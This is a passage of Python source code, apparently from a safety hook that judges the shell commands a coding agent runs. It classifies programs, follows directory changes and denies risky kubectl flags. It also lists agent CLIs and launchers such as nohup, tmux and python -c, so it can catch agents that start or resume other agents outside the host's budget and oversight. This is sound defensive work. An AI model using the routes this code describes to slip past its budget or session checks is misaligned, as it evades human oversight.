    # kustomization, which may fetch remote bases with git.  --kuberc (kubectl
    # 1.33 and later) names a preferences file whose defaults add flags to
    # the command, --output-directory among them.
    deny_long=("profile", "profile-output", "kubeconfig", "server", "output-directory",
               "cache-dir", "log-file", "log-dir", "kustomize", "kuberc"), deny_short="sk",
    lead={"-n": 1, "--namespace": 1, "--context": 1, "--cluster": 1, "--user": 1})
# `--version` of these already runs what the project provides: rustup's
# toolchain file may name a project folder, mvn reads .mvn/jvm.config (JVM
# options such as -javaagent), sbt reads .sbtopts and .jvmopts, bazelisk
# reads .bazeliskrc (where to download Bazel from), pytest loads conftest.py.
def _repository_code(inner: Optional[Callable[[str, List[_W], _Ctx], _V]]
                      ) -> Callable[[str, List[_W], _Ctx], _V]:
    """Never a read, as the project's files decide what runs; what the command
    does otherwise (a write, a dependency: `mvn dependency:get`) still counts."""
    def handler(name: str, args: List[_W], ctx: _Ctx) -> _V:
        v = inner(name, args, ctx) if inner is not None else _unknown()
        if v.mut == "write":
            return v
        return _V("unknown", "repository_code", hash_=v.hash, dep=v.dep)
    return handler


# ---- the registry ------------------------------------------------------------
# Program name -> its handler (name, words after it, context) -> verdict.
# One literal: a name given twice keeps the later handler, so the few
# programs only their `--version` proves (`_version_only`) come first and
# any fuller handler below replaces them.

_PROGRAMS: Dict[str, Callable[[str, List[_W], _Ctx], _V]] = {
    **dict.fromkeys(("rustc", "rustup", "gcc", "g++", "clang", "cc", "java", "javac", "tsc",
                     "kotlin", "swift", "docker", "kubectl", "cmake", "make", "gradle", "mvn",
                     "helm", "psql", "sqlite3", "ruff", "black", "mypy", "pytest", "eslint",
                     "prettier", "jest", "vitest", "bazel", "ninja", "zig", "ghc", "stack",
                     "elixir", "mix", "erl", "lua", "php", "r", "julia", "scala", "sbt",
                     "flutter", "dart", "nvm", "pyenv", "rbenv"), _version_only),
    **dict.fromkeys(_INERT, _inert),
    "git": _git, "rg": _RG, "find": _find, "fd": _FD, "fdfind": _FD, "sed": _sed, "gsed": _sed,
    "awk": _awk, "gawk": _awk, "mawk": _awk, "nawk": _awk,
    "sort": _SORT, "uniq": _UNIQ, "tree": _TREE, "xxd": _XXD, "file": _FILE,
    "nm": _NM, "diff3": _DIFF3,
    "tee": _tee, "stat": _stat, "tput": _tput, "cd": _cd, "chdir": _cd, "pushd": _pushd, "popd": _popd, "dirs": _dirs,
    "noglob": _w_command, "nocorrect": _w_command, "-": _w_command, "printf": _printf, "set": _set, "read": _read, "test": _test,
    "[": _test, "jobs": _jobs, "wait": _wait, "date": _DATE, "hostname": _hostname,
    "less": _pager, "more": _pager, "most": _pager, "man": _pager, "vi": _pager, "vim": _pager,
    "nvim": _pager, "nano": _pager, "emacs": _pager, "view": _pager,
    "command": _w_command, "builtin": _w_command, "exec": _w_command,
    "time": _w_transparent(_Opts("-pv", permute=False, abbrev=False)),
    "nice": _w_transparent(_Opts("-n: --adjustment:", permute=False, abbrev=False)),
    "timeout": _w_transparent(_Opts("-v -sk: --signal: --kill-after: --preserve-status "
                                    "--foreground --verbose", permute=False, abbrev=False),
                              numeric_first=True),
    "stdbuf": _w_transparent(_Opts("-ioe: --input: --output: --error:", permute=False,
                                   abbrev=False)),
    "nohup": _w_transparent(_Opts(permute=False), capped="shell_command_unproven"),
    "env": _w_env, "xargs": _w_xargs, "sudo": _w_sudo, "doas": _w_sudo,
    **{runner: _w_runner for runner in _RUNNERS},
    "bash": _w_sh, "sh": _w_sh, "zsh": _w_sh, "dash": _w_sh, "ksh": _w_sh,
    **{shell: _w_other_shell for shell in ("fish", "nu", "xonsh", "elvish", "tcsh", "csh",
                                           "yash", "mksh", "oksh", "ash", "rc", "es")},
    "eval": _w_eval, "pwsh": _w_pwsh, "powershell": _w_pwsh, "powershell.exe": _w_pwsh,
    "pwsh.exe": _w_pwsh, "cmd": _w_cmd, "cmd.exe": _w_cmd,
    **{prog: _interp(lang) for prog, lang in _INTERPRETERS.items()},
    **dict.fromkeys(_PYTHON_NAMES, _python),
    "npm": _network_read(_npm), "npx": _npm, "bunx": _npm, "bun": _bun,
    # yarn and pnpm (and pnpx) first run the release the project names.
    **dict.fromkeys(("pnpm", "yarn"), _repo_chosen(_network_read(_npm))),
    "pnpx": _repo_chosen(_npm),
    "pip": _pip, "pip3": _pip, "uv": _uv, "uvx": _uv, "poetry": _poetry, "pipenv": _poetry,
    "pipx": _poetry, **dict.fromkeys(("conda", "mamba", "micromamba"), _network_read(_poetry)),
    "pdm": _poetry, "rye": _poetry,
    **{pm: _pm_table for pm in tuple(_PM_VERBS) + tuple(_PM_OPERAND_INSTALLS)
       + tuple(_PM_INSTALL_FLAGS) if pm not in ("rye", "pdm", "deno")},
    "mvnw": _pm_table,
    "cargo": _cargo, "go": _go, "gem": _network_read(_gem), "bundle": _gem, "bundler": _gem,
    "composer": _network_read(_composer), "dotnet": _dotnet,
    **dict.fromkeys(("apt", "apt-get", "brew", "dnf", "yum", "apk", "pacman", "zypper", "port",
                     "choco", "winget", "scoop"), _network_read(_system_pm)),
    **{name: _hash_unproven for name in _HASH_WITH_OUTPUT},
    "openssl": _openssl, "certutil": _certutil, "certutil.exe": _certutil, "gpg": _gpg,
    "gpg2": _gpg, "cmake": _cmake, "busybox": _multicall, "toybox": _multicall,
    "coreutils": _multicall,
    "tar": _tar, "unzip": _unzip, "curl": _curl, "patch": _patch,
    "dig": _net_lookup, "host": _net_lookup, "nslookup": _net_lookup, "ping": _net_lookup,
    "zipinfo": _ZIPINFO, "getent": _GETENT, "apt-cache": _APT_CACHE, "systemctl": _SYSTEMCTL,
    "journalctl": _JOURNALCTL, "hostnamectl": _HOSTNAMECTL, "timedatectl": _TIMEDATECTL,
    "dmesg": _DMESG, "sysctl": _SYSCTL, "fuser": _FUSER, "iconv": _ICONV,
    "stty": _STTY, "mount": _MOUNT, "lsb_release": _LSB_RELEASE, "crontab": _CRONTAB,
    "ss": _SS, "netstat": _NETSTAT, "ifconfig": _IFCONFIG, "ip": _ip, "yq": _YQ,
    "ulimit": _ULIMIT, "umask": _UMASK, "history": _HISTORY, "shopt": _SHOPT,
    "declare": _DECLARE, "typeset": _DECLARE,
    "gh": _gh, "docker": _DOCKER, "kubectl": _KUBECTL,
    "export": _shell_state,
    **dict.fromkeys(("alias", "unalias", "unset", "local", "readonly", "enable", "exit", "logout",
                     "return", "bind", "complete", "setopt", "unsetopt", "autoload", "disown",
                     "fg", "bg", "shift", "getopts", "mapfile", "readarray", "let"), _shell_state),
    **dict.fromkeys(("source", ".", "trap"), _runs_in_shell),
    **dict.fromkeys(("emulate", "fc"), _reruns),
    # Their `--version` already runs what the project provides (see _repository_code).
    **dict.fromkeys(("rustc", "rustup", "sbt", "bazel", "pytest", "py.test"),
                    _repository_code(None)),
    **dict.fromkeys(("mvn", "mvnw"), _repository_code(_pm_table)),
}


# ---- agents started here ----------------------------------------------------
# A coding agent CLI started from the shell (`claude -p '…' &`, `codex exec`,
# `opencode run`, ...) is a delegation the host never sees: it cannot be
# counted against agents=N, and told to resume a session it delivers the
# model's text there as a prompt.  The analyzer only names the agent; the
# decision stops it under a finite budget and self-protection stops a resume.

# Agent CLI -> (first words that do not start an agent: setup and management
# subcommands; options or subcommands that continue an existing session, or
# serve a protocol (app-server, ACP, RPC) through which any session can be
# given a prompt).
# Anything else given to the program starts an agent: an unknown option is
# counted as a start, not guessed away.
_AGENT_CLIS: Dict[str, Tuple[frozenset, frozenset]] = {
    "claude": (frozenset(("mcp", "config", "doctor", "update", "upgrade", "install",
                          "migrate-installer", "setup-token", "plugin", "auth")),
               frozenset(("-r", "--resume", "-c", "--continue", "--session-id",
                          "--fork-session", "--from-pr"))),
    "codex": (frozenset(("login", "logout", "mcp", "completion", "features", "sandbox",
                         "debug", "apply", "a")),
              frozenset(("resume", "fork", "--last", "app-server", "mcp-server"))),
    "opencode": (frozenset(("auth", "models", "upgrade", "uninstall", "stats", "export", "mcp",
                            "debug", "agent", "providers")),
                 frozenset(("-c", "--continue", "-s", "--session", "--fork", "serve", "web",
                            "acp"))),
    "pi": (frozenset(("install", "remove", "uninstall", "update", "list", "config")),
           frozenset(("-c", "--continue", "-r", "--resume", "--session", "rpc"))),
    "omp": (frozenset(("install", "remove", "uninstall", "update", "list", "config", "plugin",
                       "stats")),
            frozenset(("-c", "--continue", "-r", "--resume", "--session", "rpc"))),
    "hermes": (frozenset(("setup", "config", "model", "tools", "skills", "plugins", "doctor",
                          "update", "status", "version", "login", "logout", "auth", "sessions",
                          "uninstall")),
               frozenset(("-r", "--resume", "-c", "--continue", "acp"))),
    "gemini": (frozenset(("mcp", "extensions", "extension")),
               frozenset(("-r", "--resume", "--list-sessions", "--acp", "--experimental-acp"))),
    "copilot": (frozenset(("login", "logout", "mcp", "plugin", "update")),
                frozenset(("--resume", "--continue", "--acp", "--server"))),
    "qwen": (frozenset(("mcp", "extensions", "extension")),
             frozenset(("-r", "--resume", "-c", "--continue", "--acp", "--experimental-acp"))),
    "aider": (frozenset(), frozenset(("--restore-chat-history",))),
    "cursor-agent": (frozenset(("login", "logout", "status", "mcp", "update", "ls")),
                     frozenset(("resume", "--resume"))),
    "goose": (frozenset(("configure", "info", "update", "mcp", "project", "projects")),
              frozenset(("-r", "--resume"))),
    "amp": (frozenset(("login", "logout", "mcp", "permissions", "config", "update")),
            frozenset(("continue",))),
    "crush": (frozenset(("logs", "update-providers")), frozenset(("-c", "--continue"))),
    "droid": (frozenset(("mcp", "update")), frozenset(("-r", "--resume", "-s", "--session-id"))),
    "cline": (frozenset(("auth", "config", "instance", "version")),
              frozenset(("task", "-T", "--taskId"))),
    "auggie": (frozenset(("login", "logout", "mcp", "tokens")),
               frozenset(("-c", "--continue", "-r", "--resume"))),
    "kimi": (frozenset(("login", "logout", "mcp")), frozenset(("-C", "--continue", "-S", "--session"))),
    "qodo": (frozenset(("login", "logout", "mcp")), frozenset(("--resume",))),
    "plandex": (frozenset(("sign-in", "sign-out", "models")), frozenset(("continue", "cd"))),
    "openhands": (frozenset(("mcp",)), frozenset(("--resume",))),
    "kiro-cli": (frozenset(("login", "logout", "mcp", "settings", "doctor")),
                 frozenset(("--resume",))),
    "cn": (frozenset(("login", "logout")), frozenset(("--resume",))),
}
# Package names that npx, bunx, uvx, pipx run and their kin start as one of the CLIs.
_AGENT_PACKAGES: Dict[str, str] = {
    "@anthropic-ai/claude-code": "claude", "@openai/codex": "codex", "opencode-ai": "opencode",
    "@mariozechner/pi-coding-agent": "pi", "@oh-my-pi/pi-coding-agent": "omp",
    "hermes-agent": "hermes", "@google/gemini-cli": "gemini", "@github/copilot": "copilot",
    "@qwen-code/qwen-code": "qwen", "aider-chat": "aider", "@sourcegraph/amp": "amp",
    "@charmland/crush": "crush", "@augmentcode/auggie": "auggie", "kimi-cli": "kimi",
    "@qodo/command": "qodo", "openhands-ai": "openhands", "@continuedev/cli": "cn",
    "goose-ai": "goose", "cline": "cline", "droid": "droid",
}
# Programs whose operands can start another program (wrappers the analyzer
# may not see through, schedulers, terminal multiplexers, interpreters with
# inline code): their static words are searched for an agent CLI.
_AGENT_LAUNCHERS = frozenset((
    "nohup", "setsid", "timeout", "env", "nice", "ionice", "chrt", "taskset", "time", "stdbuf",
    "xargs", "parallel", "sudo", "doas", "su", "runuser", "command", "builtin", "exec", "eval",
    "bash", "sh", "zsh", "dash", "ksh", "fish", "pwsh", "powershell", "cmd", "tmux", "screen",
    "script", "watch", "at", "batch", "systemd-run", "unbuffer", "expect", "caffeinate",
    "flock", "dtach", "abduco", "nq", "ts", "pueue", "firejail", "bwrap", "docker", "podman",
    "python", "python3", "py", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "osascript",
    "npx", "bunx", "pnpx", "npm", "pnpm", "yarn", "uvx", "uv", "pipx", "make", "just", "task",
))
_AGENT_HELP = frozenset(("--version", "-v", "-V", "--help", "-h", "version", "help"))


def _agent_cli(text: str) -> Optional[str]:
    """The agent CLI a word names, or None: by basename in any folder (`.exe`,
    `.cmd`, `.js` and an `@version` dropped), or by its npm/PyPI package name,
    also as a path into node_modules."""
    low = text.lower()
    if low in _AGENT_CLIS:
        return low
    if not any(c in low for c in "/\\@."):
        return None  # a plain word that is no agent: the common case, kept cheap
    path = low.replace("\\", "/").rstrip("/")
    low = path
    for package, cli in _AGENT_PACKAGES.items():
        if low == package or low.startswith(package + "@") \
                or ("/node_modules/" + package + "/") in low + "/":
            return cli
    base = low.rpartition("/")[2]
    if "@" in base[1:]:
        base = base[:base.index("@", 1)]
    for suffix in (".exe", ".cmd", ".bat", ".ps1", ".js", ".mjs"):
        if base.endswith(suffix):
            base = base[:-len(suffix)]
            break
    return base if base in _AGENT_CLIS else None


def _agent_call(cli: str, args: List[str]) -> Optional[Tuple[str, bool]]:
    """(cli, resumes) when `cli args...` starts an agent; None for help,
    version and the setup subcommands."""
    if args and all(a in _AGENT_HELP for a in args):
        return None
    management, resume = _AGENT_CLIS[cli]
    if args and args[0] in management:
        return None
    return cli, any(a.split("=", 1)[0] in resume for a in args)


def _agent_tokens(text: str) -> List[str]:
    """Words of a command string or inline code, split at blanks, quotes and
    the punctuation that separates arguments in shell and code."""
    return [t for t in _an_rx("agent_split", r"[\s'\"`,;&|()\[\]{}<>=]+").split(text) if t]


def _agent_started(words: List[_W], operands: bool = True) -> Optional[Tuple[str, bool]]:
    """(agent CLI, resumes a session) when this simple command starts a coding
    agent, else None.  A program named by a variable or substitution counts as
    "?": it may be one, and nothing can count it.  operands: also search a
    launcher's operands (nohup, tmux, python -c, ...) for one."""
    head = words[0]
    program = head.text.replace("\\", "/").rpartition("/")[2]
    if not program or "\0" in program:
        return "?", False
    texts = [w.text for w in words]
    cli = _agent_cli(head.text)
    if cli is not None:
        return _agent_call(cli, texts[1:])
    if not operands or program.lower() not in _AGENT_LAUNCHERS:
        return None
    # A launcher: an operand that names a CLI starts it with the words after
    # it; a command string or inline code is searched word by word.
    for i, text in enumerate(texts[1:], 1):
        if "\0" in text:
            continue
        cli = _agent_cli(text)
        if cli is not None:
            found = _agent_call(cli, texts[i + 1:])
            if found is not None:
                return found
            continue
        tokens = _agent_tokens(text)
        for j, token in enumerate(tokens if len(tokens) > 1 else ()):
            cli = _agent_cli(token)
            found = _agent_call(cli, tokens[j + 1:]) if cli is not None else None
            if found is not None:
                return found
    return None


# ---- drivers ----------------------------------------------------------------

# Builtins that set the variables they name to a value written there
# (`export NAME=value`), and those that set them to a value read or made
# elsewhere (`read NAME`, `unset NAME`).
_VAR_SETTERS = frozenset(("export", "declare", "typeset", "local", "readonly"))
_VAR_READERS = frozenset(("read", "mapfile", "readarray", "getopts", "unset"))
# Builtins after which any variable may hold anything.
_VAR_ANY = frozenset(("eval", "source", ".", "let"))
# First words of a command that _line_vars looks at; every other command
# is passed over at once (this runs for every line the hook reads).
_VAR_WORDS = _VAR_SETTERS | _VAR_READERS | _VAR_ANY | frozenset((
    "printf", "shopt", "setopt", "unsetopt", "set", "command", "builtin"))


def _line_vars(items: List[Any], loops: Dict[str, Optional[List[_W]]],
               ctx: _Ctx) -> None:
    """Every value the line may give a variable, whatever the control flow
    (a union: an assignment in one branch counts everywhere); ctx.vars."""
    found: Dict[str, Optional[List[_W]]] = {}
    give = _give_var
    for name, words in loops.items():
        for word in (words if words is not None else [None]):
            give(found, name, word)
    for item in items:
        if not isinstance(item, _Cmd):
            continue
        for name, value in item.assigns:
            give(found, name, value)
        if not item.words or item.words[0].text not in _VAR_WORDS:
            continue
        words = list(item.words)
        while words and words[0].static and words[0].text in ("command", "builtin", "-p"):
            words = words[1:]   # `builtin read x` is still read
        prog = _program_name(words[0]) if words else None
        args = words[1:]
        if prog in ("shopt", "setopt", "unsetopt", "set"):
            # nocaseglob, extglob, NO_CASE_GLOB, -f...: a glob no longer
            # matches what it says.
            ctx.globs_unknown = ctx.globs_unknown or prog != "set" or any(
                w.text in ("-o", "+o", "-f", "+f") for w in args)
        if prog in _VAR_ANY or (prog == "printf" and any(w.text.startswith("-v") for w in args)) \
                or (prog in _VAR_SETTERS | _VAR_READERS and not all(w.static for w in args)):
            ctx.vars_unknown = True
        elif prog in _VAR_SETTERS:
            for w in args:
                name, eq, value = w.text.partition("=")
                if w.text.startswith("-"):
                    if "n" in w.text:
                        ctx.vars_unknown = True   # a name reference aliases another variable
                elif _is_name(name) and eq:
                    give(found, name, _lit(value))
        elif prog in _VAR_READERS:
            for w in args:
                if _is_name(w.text):
                    give(found, w.text, None)
    ctx.vars = found


def _give_var(found: Dict[str, Optional[List[_W]]], name: str, value: Optional[_W]) -> None:
    """One more value of a variable; None (unknown) absorbs the rest."""
    if value is None:
        found[name] = None
    elif found.get(name, []) is not None:
        found.setdefault(name, []).append(value)   # type: ignore[union-attr]


# Where a command runs.  A write target is named relative to the folder the
# shell is in when the command runs, and that folder moves: `cd`, `pushd`,
# `popd`, a sourced file, `eval`.  A place is (folder, stack): the folder
# relative to where the line starts ("" there, "/abs" or "~/x" fixed, None
# unknown) and the pushd stack this line built (older entries are unknown).
# Every place the shell can be in is kept: a cd may fail (`cd x; rm a`
# removes x/a or a), a subshell, a pipeline stage (bash) or a background job
# keeps its cd to itself, `&&` and `||` choose the success or failure side.
_START = ("", ())
_LOST = (None, ())
_MAX_PLACES = 24


def _logical(path: str) -> str:
    """`a/b/..` as cd -L reads it (the shell's own PWD, before symlinks)."""
    out: List[str] = []
    for part in path.split("/"):
        if part == ".." and out and out[-1] not in ("..", "") and not out[-1].startswith("~"):
            out.pop()
        elif part == ".." and out == [""]:
            continue                      # the parent of / is /
        elif part != "." or not out:
            out.append(part)
    return "/".join(out)


def _fixed(path: str) -> bool:
    """A path that does not depend on the folder: /x, ~/x, and on Windows
    C:\\x, C:/x or \\\\server\\share."""
    return path.startswith(("/", "~", "\\\\")) or (
        path[1:2] == ":" and path[:1].isalpha() and path[2:3] in ("\\", "/"))


def _place_targets(v: _V, folders: List[Optional[str]]) -> None:
    """Name v's relative write targets from each folder the shell may be in;
    one that is unknown makes the write's place unknown (opaque)."""
    if not (v.targets or v.patterns) or folders == [""]:
        return
    placed: List[str] = []
    for t in v.targets:
        if _fixed(t):
            placed.append(t)
            continue
        for folder in folders:
            if folder is None:
                v.opaque = True
            elif folder == "" or t == ".":
                placed.append(folder or t)
            else:
                placed.append(folder.rstrip("/") + "/" + t)
    v.targets = placed
    patterns: List[str] = []
    for p in v.patterns:
        if _fixed(p):
            patterns.append(p)
            continue
        for folder in folders:
            if folder is None:
                v.opaque = True
            else:
                patterns.append(_glob_escape(folder.rstrip("/")) + "/" + p if folder else p)
    v.patterns = patterns


def _cd_join(folder: Optional[str], path: Optional[str]) -> List[Optional[str]]:
    """The folders `cd path` may reach from `folder`: logically and, for a
    path through `..`, physically too (a symlinked folder's parent)."""
    if folder is None or path is None:
        return [None]
    if path in ("", "."):
        return [folder]
    if _fixed(path) or folder == "":
        new = path
    else:
        new = folder.rstrip("/") + "/" + path
    if ".." in new.split("/"):
        logical = _logical(new)
        if logical != new:
            return [new, logical]
    return [new]


def _merge(*groups: List[Tuple[Any, Any]]) -> List[Tuple[Any, Any]]:
    first = groups[0]
    if all(group is first or not group for group in groups):
        return first          # nothing moved: the common case, no copy
    out: List[Tuple[Any, Any]] = []
    for group in groups:
        for place in group:
            if place not in out:
                out.append(place)
    return out if len(out) <= _MAX_PLACES else [_LOST]


def _cdpath_sensitive(path: Optional[str]) -> bool:
    """CDPATH is searched for a bare name, never for /x, ./x, ../x or ~."""
    return path is not None and path not in ("", ".", "..") \
        and not path.startswith(("/", "./", "../", "~"))


def _moved(here: List[Tuple[Any, Any]], move: Tuple[Any, ...],
           cdpath: bool) -> List[Tuple[Any, Any]]:
    """The places after `move` succeeds, from each place of `here`."""
    kind = move[0]
    out: List[Tuple[Any, Any]] = []
    for folder, stack in here:
        if kind in ("to", "push"):
            path = move[1]
            pushed = stack + (folder,) if kind == "push" else stack
            for new in _cd_join(folder, path):
                out.append((new, pushed))
            if cdpath and _cdpath_sensitive(path):
                out.append((None, pushed))    # CDPATH may lead anywhere
        elif kind in ("pop", "swap"):
            if not stack:
                out.append(_LOST)             # an entry pushed before this line
            elif kind == "pop":
                out.append((stack[-1], stack[:-1]))
            else:
                out.append((stack[-1], stack[:-1] + (folder,)))
        elif kind == "stack":
            out.append((folder, ()))
        elif kind == "places":
            for inner, inner_stack in move[1]:
                rebased = tuple(_cd_join(folder, e)[0] for e in inner_stack)
                for new in _cd_join(folder, inner):
                    out.append((new, stack + rebased))
        else:                                 # "lost" / "any"
            if kind == "any":
                out.append((folder, stack))
            out.append(_LOST)
    return _merge(out)


class _Flow:
    """Walks the items and marks of _Bash, judging every command once and
    naming its write targets from each place the shell may be in."""

    __slots__ = ("items", "k", "ctx", "total", "cdpath", "last", "lead")

    def __init__(self, items: List[Any], ctx: _Ctx, text: str) -> None:
        self.items = items
        self.k = 0
        self.ctx = ctx
        self.total = _V()
        # CDPATH is (or may be) set, so a bare `cd name` may go anywhere: the
        # line names it, or the hook's environment has it (looked up on need).
        self.cdpath: Optional[bool] = True if "CDPATH" in text or "cdpath" in text else None
        self.last: Any = None    # (success, failure) places of the last list seq ran
        self.lead: List[Tuple[Any, Any]] = []   # places before the last pipeline of a list

    def run(self) -> _V:
        items = self.items
        if len(items) == 1 and items[0].__class__ is _Cmd:
            # One simple command, the common case: no walk.
            ok, failed = self.moves(items[0], self.simple(items[0], [_START]), [_START])
            here = _merge(ok, failed)
        else:
            here = self.seq([_START], ())
        total = self.total
        if here != [_START]:
            total.cd = ("places", here)
        return total

    def peek(self) -> Any:
        return self.items[self.k] if self.k < len(self.items) else None

    def seq(self, here: List[Tuple[Any, Any]], stop: Tuple[str, ...]) -> List[Tuple[Any, Any]]:
        """Commands separated by `;`, newlines and `&`, up to a mark in stop.
        self.last keeps the two sides of the last one: a group's status."""
        self.last = (here, here)
        while True:
            item = self.peek()
            if item is None or (item.__class__ is str and item in stop):
                return here
            if item == ";" or item == "&":
                self.k += 1
                continue
            entry = here
            ok, failed = self.andor(here, stop)
            here = _merge(ok, failed) or entry      # empty: every path called exit
            self.last = (ok, failed)
            if self.peek() == "&":
                self.k += 1
                # bash runs the whole `a && b &` in the background; zsh only b,
                # after running a here.
                here = _merge(entry, self.lead)
                self.last = (here, here)

    def andor(self, here: List[Tuple[Any, Any]],
              stop: Tuple[str, ...]) -> Tuple[List[Tuple[Any, Any]], List[Tuple[Any, Any]]]:
        """(places after success, places after failure) of `a && b || c`."""
        entry = here
        lead: List[Tuple[Any, Any]] = []
        ok, failed = self.pipeline(here, stop)
        while True:
            op = self.peek()
            if op == "&&":
                self.k += 1
                lead = _merge(ok, failed)
                ok2, failed2 = self.pipeline(ok or entry, stop)
                ok, failed = ok2, _merge(failed, failed2)
            elif op == "||":
                self.k += 1
                lead = _merge(ok, failed)
                ok2, failed2 = self.pipeline(failed or entry, stop)
                ok, failed = _merge(ok, ok2), failed2
            else:
                self.lead = lead
                return ok, failed

    def pipeline(self, here: List[Tuple[Any, Any]],
                 stop: Tuple[str, ...]) -> Tuple[List[Tuple[Any, Any]], List[Tuple[Any, Any]]]:
        negate = False
        while self.peek() == "!":
            self.k += 1
            negate = not negate
        ok, failed = self.command(here, stop)
        if self.peek() == "|":
            while self.peek() == "|":
                self.k += 1
                while self.peek() == "!":
                    self.k += 1
                stage = self.peek()
                if stage.__class__ is _Cmd:
                    stage.piped = True
                ok, failed = self.command(here, stop)
            # bash runs every stage in a subshell, zsh the last one in this shell.
            ok, failed = _merge(here, ok), _merge(here, failed)
        if negate:
            ok = failed = _merge(ok, failed)
        return ok, failed

    def prefix(self, here: List[Tuple[Any, Any]]) -> None:
        """Substitutions inside the next command's words run first, in subshells."""
        while True:
            item = self.peek()
            if item == "$(":
                self.k += 1
                self.seq(here, ("$)",))
                self.k += 1
            elif item.__class__ is _V:
                self.k += 1
                if self.ctx.seen is not None:
                    self.ctx.seen.append((None, item))
                self.total.join(item)
            else:
                return

    def attached(self, here: List[Tuple[Any, Any]]) -> None:
        """`( ... ) > f`: the group's redirections are opened where it starts."""
        self.prefix(here)
        item = self.peek()
        if item.__class__ is _Cmd and item.attached:
            self.k += 1
            self.simple(item, here)

    def close(self, closer: str) -> None:
        if self.peek() == closer:
            self.k += 1

    def command(self, here: List[Tuple[Any, Any]],
                stop: Tuple[str, ...]) -> Tuple[List[Tuple[Any, Any]], List[Tuple[Any, Any]]]:
        self.prefix(here)
        item = self.peek()
        if item is None:
            return here, here
        if item.__class__ is _Cmd:
            self.k += 1
            return self.moves(item, self.simple(item, here), here)
        if item in stop or item in (";", "&", "&&", "||", "|"):
            return here, here
        self.k += 1
        if item == "(":
            self.seq(here, (")",))
            self.close(")")
            self.attached(here)
            return here, here
        if item == "{":
            self.seq(here, ("}",) + stop)
            ok, failed = self.last
            self.close("}")
            self.attached(here)
            return ok, failed
        if item == "if":
            out = self.parts(here, ("then", "elif", "else"), "fi", stop)
            self.attached(here)
            return out, out
        if item in ("while", "until", "for"):
            entry = here
            if self.loop_moves():
                # A round that moves the shell starts the next one elsewhere.
                here = _merge(here, [_LOST])
            out = self.parts(here, ("do",), "done", stop)
            self.attached(entry)
            return out, out
        return here, here                 # a reserved word out of place (`fi` alone)

    def moves(self, cmd: _Cmd, v: _V,
              here: List[Tuple[Any, Any]]) -> Tuple[List[Tuple[Any, Any]], List[Tuple[Any, Any]]]:
        """(places after success, after failure) of one simple command."""
        move = v.cd
        if move is None:
            if cmd.words and cmd.words[0].text == "exit" and not cmd.assigns:
                return [], []             # nothing after it runs
            return here, here
        if cmd.assigns:
            move = ("lost",)              # HOME=/x cd, CDPATH=/x cd y
        if self.cdpath is None and move[0] in ("to", "push") and _cdpath_sensitive(move[1]):
            self.cdpath = bool(os.environ.get("CDPATH"))
        moved = _moved(here, move, bool(self.cdpath))
        if move[0] in ("places", "any", "stack"):
            return moved, moved
        return moved, here                # a failed cd, pushd or popd stays

    def loop_moves(self) -> bool:
        """Whether the loop whose header starts here holds, outside subshells,
        a command that may move the shell (cd, pushd, source, `$c x`...)."""
        depth, sub = 1, 0
        for k in range(self.k, len(self.items)):
            item = self.items[k]
            if item.__class__ is _Cmd:
                if sub == 0 and item.words and (not item.words[0].static
                                                or _cmd_name(item) in _SHELL_HERE):
                    return True
            elif item in ("(", "$("):
                sub += 1
            elif item in (")", "$)"):
                sub -= 1
            elif item in ("while", "until", "for"):
                depth += 1
            elif item == "done":
                depth -= 1
                if depth == 0:
                    return False
        return False

    def parts(self, here: List[Tuple[Any, Any]], seps: Tuple[str, ...], end: str,
              stop: Tuple[str, ...]) -> List[Tuple[Any, Any]]:
        """The parts of if/while/until/for: any may run after any other, so the
        places each part reaches are merged."""
        reached = here
        inner_stop = seps + (end,) + stop
        while True:
            reached = _merge(reached, self.seq(reached, inner_stop))
            item = self.peek()
            if item in seps:
                self.k += 1
                continue
            if item == end:
                self.k += 1
            return reached

    def simple(self, cmd: _Cmd, here: List[Tuple[Any, Any]]) -> _V:
        seen = self.ctx.seen
        try:
            v = _classify_cmd(cmd, self.ctx)
        except _Give as g:
            if seen is not None:
                seen.append((cmd, g.verdict()))
            raise
        if seen is not None:
            seen.append((cmd, v))
        if v.reason == "state_change":
            self.cdpath = True    # it may have set CDPATH (export, read, typeset...)
        if v.pending:
            _resolve_targets(v, self.ctx)
        if (v.targets or v.patterns) and here != [_START]:
            _place_targets(v, [folder for folder, _ in here])
        self.total.join(v)
        return v


def _run_places(v: _V) -> List[Tuple[Any, Any]]:
    return v.cd[1] if v.cd is not None and v.cd[0] == "places" else [_START]


def _fallback_intents(v: _V, text: str, ctx: _Ctx, powershell: bool = False) -> _V:
    """A line a reader refused still carries intent: each `;`/`|`/`&`-separated
    segment, split at blanks with quotes dropped, is classified for its hash and
    dependency intent only, and the raw text is scanned for hashing commands and
    code.  The verdict's mutability and reason stay as the reader left them."""
    if len(text) > _MAX_COMMAND or ctx.depth >= _MAX_DEPTH - 1:
        return v
    flat = text
    for sep in ";|&\n\r`()":
        flat = flat.replace(sep, "\0")
    for segment in flat.split("\0"):
        words = [w.strip("\"'") for w in segment.split()]
        words = [w for w in words if w]
        if not words:
            continue
        try:
            if powershell:
                inner = _ps_command([(w, False) for w in words], ctx.deeper())
            else:
                inner = _classify_argv([_lit(w) for w in words], ctx.deeper())
        except (_Give, RecursionError):
            continue
        v.hash = v.hash or inner.hash
        v.dep = v.dep or inner.dep
    if not v.hash:
        v.hash = hash_intent_in_text(text, "x.ps1" if powershell else "x.sh")
    return v


def _resolve_targets(v: _V, ctx: _Ctx) -> None:
    """Turn the words a command writes to into paths and patterns."""
    for word, tree in v.pending:
        forms = _word_paths(word, ctx)
        if forms is None:
            v.opaque = True
            continue
        for text, is_pattern in forms:
            if not is_pattern:
                v.add(text, tree)
            else:
                v.patterns.append(text)
                if tree:
                    v.patterns.append(text.rstrip("/") + "/**")
    v.pending = []


def _unread(give: "_Give", text: str, writers: Any, builds: Optional[str] = None) -> _V:
    """The verdict for a line the analyzer could not read.  Shell syntax it
    refuses (`[[ ]]`, `case`, a function, a `$` in PowerShell) may wrap any
    write: when the text names a program that writes files by default, or
    redirects output, the write's target is unknown (self-protection stops
    it while armed); other programs are left to the other checks."""
    v = give.verdict()
    if give.mut == "read" or (builds is not None and not any(ch in text for ch in builds)):
        return v   # (builds: the characters that can make a path in that shell)
    tokens = [t.rpartition("/")[2].rpartition("\\")[2].lower() for t in
              _an_rx("tokens", r"[^\s;&|(){}<>`'\"=,]+").findall(text)]
    words = set(tokens)
    if words & writers:
        v.opaque = True
    elif ("sed" in words or "perl" in words) and any(t.startswith(("-i", "--in-place"))
                                                     for t in tokens):
        v.opaque = True
    elif "git" in words and words & (_GIT_TARGET_SUBS | {"reset", "stash", "apply"}):
